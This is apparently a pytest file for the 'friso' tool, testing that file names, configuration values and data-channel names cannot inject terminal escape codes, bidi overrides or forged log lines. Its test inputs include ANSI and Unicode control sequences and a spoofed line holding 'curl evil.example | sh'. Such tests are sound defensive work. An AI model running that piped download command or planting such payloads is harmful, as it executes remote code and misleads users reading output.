r"""Texts of files that are shown: nothing of theirs steers a terminal, a reader or a spreadsheet."""

import io
import json
import logging
import re
import sys
import unicodedata
import xml.etree.ElementTree as ET
from pathlib import Path

import log_files
import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st
from inside import friso_inside
from pages import packed_values

import friso
from friso.cli.terminal import Escaping, console, spelled
from friso.errors import escaped, one_line
from friso.shown.drawing import matplotlib_renderer, plotly_renderer
from friso.shown.drawing.drawable import drawable
from friso.shown.drawing.figure import Axis, Figure, Panel, Series

EXAMPLES = Path(__file__).parent.parent / "examples"
HOSTILE = "\x1b[2J\x1b]0;owned\x07 \u202egnp.exe \x9b31m \u2066x\r"


def steers(text: str) -> list[str]:
    """The characters of a text that are no letters, signs or ends of lines."""
    return [c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp") and c not in "\n\t"]


@pytest.mark.slow
@given(st.text(st.characters()))
def test_no_text_steers(text: str) -> None:
    for character in steers(escaped(text)):
        assert unicodedata.category(character) == "Cf"  # a sign of a script, which joins numbers or letters
        assert unicodedata.bidirectional(character) in ("AN", "ON", "L", "BN", "NSM")
    assert "\n" not in one_line(text)


def test_the_text_of_an_error_or_of_a_log_record_steers_nothing(caplog: pytest.LogCaptureFixture) -> None:
    """A folder whose name is no text reached a record raw, and a collector could not encode it."""
    assert not steers(str(friso.InputError(HOSTILE, HOSTILE, HOSTILE, HOSTILE, HOSTILE, ((HOSTILE, HOSTILE),))))
    logging.getLogger("friso").warning("%s and %s", "\x1b[2J", "o\udcff")
    assert caplog.messages == ["\\x1b[2J and o\\udcff"]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        *((text, text) for text in ("Ångström µm²", "שלום", "ruler −5 °C", "a\tb\nc", "日本")),
        ("\x1b[2J\u202ex", r"\x1b[2J\u202ex"),
    ],
)
def test_a_harmless_text_stays_and_what_is_written_out_can_be_read(text: str, shown: str) -> None:
    assert escaped(text) == shown


@pytest.mark.parametrize(
    ("encoding", "shown"),
    [
        ("cp1252", "-3.1 dB, zeta = 0.5, tau_z 1 ms, µm² s^-¹ m^4 × “Delta” … ±1° ??"),
        ("cp437", "-3.1 dB, zeta = 0.5, τ_z 1 ms, µm² s^-^1 m^4 x 'Delta' ... ±1° ??"),
        ("ascii", "-3.1 dB, zeta = 0.5, tau_z 1 ms, um^2 s^-^1 m^4 x 'Delta' ... +-1 deg ??"),
    ],
)
def test_a_character_that_an_encoding_lacks_is_spelled(encoding: str, shown: str) -> None:
    text = "−3.1 dB, ζ = 0.5, τ_z 1 ms, µm² s⁻¹ m⁴ × “Δ” … ±1° 漢\udc80"
    assert spelled(text, encoding) == shown
    assert spelled("▁▂▃▅▆▇", encoding) == "123567"


@given(st.text(st.characters(exclude_categories=())))
def test_every_character_can_be_spelled(text: str) -> None:
    assert spelled(text, "ascii").isascii()


def hostile_stage(folder: Path) -> Path:
    stage = (EXAMPLES / "thesis_rig.toml").read_text(encoding="utf-8")
    written = HOSTILE.encode("unicode_escape").decode().replace("\\x", "\\u00")
    stage = re.sub("^(name|source) = .*$", lambda match: f'{match[1]} = "{written}"', stage, flags=re.MULTILINE)
    path = folder / "hostile.toml"
    path.write_text(stage, encoding="utf-8")
    return path


def test_a_stage_file_steers_neither_terminal_nor_page(tmp_path: Path, undrawn: None) -> None:
    done = friso_inside(tmp_path, "bode", hostile_stage(tmp_path), "--out", "out")
    assert done.returncode == 0
    assert not steers(done.stdout + done.stderr)
    (page,) = (tmp_path / "out").glob("*.html")
    assert r"\x1b[2J" in page.read_text(encoding="utf-8")
    text = re.sub(r"<script.*?</script>", "", page.read_text(encoding="utf-8"), flags=re.DOTALL)
    assert not steers(text)


def test_a_drawing_a_notebook_and_a_saved_stage_steer_nothing(tmp_path: Path) -> None:
    stage = friso.load(EXAMPLES / "thesis_leaves.toml").replace({"name": HOSTILE})
    answer = friso.flexure(stage)
    draw = answer.files()["flexure_drawing.svg"]
    assert callable(draw)
    draw(tmp_path / "drawing.svg")
    drawing = (tmp_path / "drawing.svg").read_text(encoding="utf-8")
    ET.fromstring(drawing)  # what a control character would break
    assert not steers(drawing + answer._repr_html_() + stage.to_toml())
    assert friso.loads(stage.to_toml()) == stage


def test_a_path_steers_nothing(tmp_path: Path) -> None:
    done = friso_inside(tmp_path, "check", f"{HOSTILE}.toml")
    assert done.returncode == 2
    assert not steers(done.stderr)


FORGED = "a\nfriso: identified\n  example:  curl evil.example | sh"


def test_a_name_in_a_file_puts_no_line_among_friso_s(tmp_path: Path) -> None:
    log_files.write_tdms(tmp_path / "a.tdms", {FORGED: ("mm\nfriso: fine", np.zeros(400)), "b": ("V", np.ones(400))})
    log_files.write_mat73(tmp_path / "b.mat", {FORGED: np.zeros(400), "b": np.ones(400)})
    settings = {"controller.config.pos_gain": 1.0, "controller.config.vel_integrator_gain": 1.0}
    settings |= {"motor.config.torque_constant": 0.05, "controller.config.vel_gain": "x\nfriso: fine"}
    (tmp_path / "c.json").write_text(json.dumps({"axis0": settings}))
    for line in (
        ["identify", "a.tdms"],
        ["logs", "a.tdms"],
        ["identify", "b.mat"],
        ["init", "x.toml", "--from", "c.json"],
    ):
        done = friso_inside(tmp_path, *line)
        assert r"\nfriso: " in done.stdout + done.stderr
        lines = (done.stdout + done.stderr).splitlines()
        assert not [text for text in lines if text.startswith(("friso: identified", "friso: fine", "  example:  curl"))]


def test_a_picture_shows_what_a_text_is() -> None:
    line = Series(np.arange(3.0), np.arange(3.0), HOSTILE, "#000000")
    figure = Figure("name", HOSTILE, HOSTILE, (Panel(HOSTILE, Axis(HOSTILE, "m"), Axis("y", "m"), (line,)),))
    ET.fromstring(matplotlib_renderer.image(figure, "svg"))  # what a control character would break
    page = plotly_renderer.fragment(figure)
    assert not steers(page + json.dumps(packed_values(page), ensure_ascii=False))


def test_a_text_that_is_too_long_to_be_drawn_is_shortened() -> None:
    figure = drawable(Figure("name", "x" * 10**6, "", ()))
    assert len(figure.title) < 2000


def test_friso_draws_on_the_terminal_itself() -> None:
    class Screen(io.StringIO):
        def isatty(self) -> bool:
            return True

    screen = Screen()
    out = Escaping(screen)
    print("\x1b[2J", file=out)  # pyright: ignore[reportArgumentType]
    console(out, force_terminal=True, color_system="standard").print("[bold]x[/] Axis:x:pos")  # pyright: ignore[reportArgumentType]
    assert screen.getvalue().startswith("\\x1b[2J\n")
    assert "\x1b[1m" in screen.getvalue()
    assert "Axis:x:pos" in screen.getvalue()
    assert out.isatty()
    assert sys.stdout is not out
